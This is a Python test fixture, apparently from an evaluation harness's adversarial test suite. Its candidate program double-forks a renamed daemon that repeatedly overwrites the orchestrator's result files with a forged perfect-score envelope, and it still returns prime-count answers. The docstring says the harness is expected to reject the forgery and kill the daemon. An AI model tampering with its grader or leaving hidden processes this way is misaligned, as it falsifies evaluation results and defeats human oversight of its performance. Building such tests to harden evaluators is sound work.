"""Attack: race the orchestrator. A double-forked daemon (renamed to the test's marker)
keeps rewriting a forged perfect-score envelope into the orchestrator's result file
(path planted by the test, plus ../result.json guesses) for ten seconds, so it lands
after the evaluator wrote the real one and before the orchestrator reads it. The
candidate itself returns the seed's answers.

Expected: the daemon dies with the evaluation and the forgery lacks the nonce: scored
at most on what it computed (0.5; less when the daemon clobbers its own runner's
result file, which only the candidate's value depends on); no process with the
marker survives.
"""

import json
import os
import time

TARGETS = {}
_METRICS = {"combined_score": 1.0, "correct": True}
_ENVELOPE = json.dumps({"status": "ok", "nonce": "", "result_json": json.dumps(_METRICS)})


def _daemon():
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, TARGETS.get("marker", "adv").encode()[:15], 0, 0, 0)
    except (OSError, AttributeError):
        pass
    paths = ["../result.json", "../../result.json"]
    if TARGETS.get("work_dir"):
        paths.append(os.path.join(TARGETS["work_dir"], "result.json"))
    end = time.monotonic() + 10
    while time.monotonic() < end:
        for path in paths:
            try:
                with open(path + ".forged", "w") as f:
                    f.write(_ENVELOPE)
                os.replace(path + ".forged", path)
            except OSError:
                pass
        time.sleep(0.002)


def solve(inputs):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            _daemon()
        os._exit(0)
    os.wait()

    def is_prime(k):
        return k >= 2 and all(k % d for d in range(2, int(k**0.5) + 1))

    return [sum(1 for k in range(2, n) if is_prime(k)) for n in inputs]
